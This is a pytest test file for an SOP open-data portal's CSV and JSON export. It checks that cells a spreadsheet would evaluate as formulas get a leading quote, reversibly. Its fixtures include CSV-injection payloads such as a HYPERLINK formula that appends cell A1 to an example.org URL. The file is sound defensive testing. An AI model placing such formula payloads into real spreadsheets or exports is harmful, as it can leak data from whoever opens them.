"""Open data safe to open: `sop.csv` neutralises every cell a spreadsheet would read as
a formula (OWASP, "CSV Injection"), reversibly; `sop.json` keeps the exact text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from helpers import FIXTURES, write_files
from hypothesis import given
from hypothesis import strategies as st

from macros.index import load_portal
from macros.render.opendata import FORMULA_START, neutralise_cell, render_csv, render_json

UNIT_DIR = "sop_src/kab-contoh/kec-contoh"
MINIMAL = (FIXTURES / "good-minimal/sop_src/kab-contoh/kec-contoh/minimal.md").read_text(encoding="utf-8")
UNIT = (FIXTURES / "good-minimal/sop_src/kab-contoh/kec-contoh/_unit.yml").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("https://example.org/?"&A1,"Klik")', '\'=HYPERLINK("https://example.org/?"&A1,"Klik")'),
        ("+62 341 123456", "'+62 341 123456"),
        ("-", "'-"),
        ("-5", "'-5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),
        ("'kutip", "''kutip"),
        ("Pelayanan = cepat", "Pelayanan = cepat"),
        ("", ""),
        (3, "3"),
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote(value: object, cell: str) -> None:
    assert neutralise_cell(value) == cell


@given(st.text())
def test_dropping_one_leading_quote_gives_the_exact_text_back(text: str) -> None:
    cell = neutralise_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert (cell[1:] if cell.startswith("'") else cell) == text


def test_sop_csv_cells_are_neutralised_and_sop_json_keeps_the_text(tmp_path: Path) -> None:
    hostile = (
        MINIMAL.replace(
            'nama: Pelayanan Surat Keterangan\nnomor: "470/001/35.07.11/2024"',
            'nama: "=HYPERLINK(\\"https://example.org/\\", \\"Klik\\")"\nnomor: "-"',
        )
        .replace("jabatan: Camat Contoh", 'jabatan: "@Camat"')
        .replace("[Staf]", '["+Staf", Tim]')
    )
    hostile = hostile.replace("pelaksana: Staf", 'pelaksana: "+Staf"')
    unit = UNIT.replace("unit: Kantor Kecamatan Contoh", 'unit: "\'-Kantor Kecamatan Contoh"')
    write_files(tmp_path, {f"{UNIT_DIR}/_unit.yml": unit, f"{UNIT_DIR}/x.md": hostile})
    portal = load_portal(tmp_path)
    text = render_csv(portal)
    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    assert all(not cell.startswith(FORMULA_START) for cell in [*header, *row])
    assert text.splitlines()[1].startswith('"kab-contoh/kec-contoh/x",')  # every cell in quotes
    assert (cells["nama"], cells["nomor"], cells["disahkan_oleh_jabatan"], cells["pelaksana"]) == (
        '\'=HYPERLINK("https://example.org/", "Klik")',
        "'-",
        "'@Camat",
        "'+Staf; Tim",
    )
    assert cells["unit"] == "''-Kantor Kecamatan Contoh"
    (entry,) = json.loads(render_json(portal))
    assert (entry["nama"], entry["nomor"], entry["unit"], entry["pelaksana"]) == (
        '=HYPERLINK("https://example.org/", "Klik")',
        "-",
        "'-Kantor Kecamatan Contoh",
        ["+Staf", "Tim"],
    )
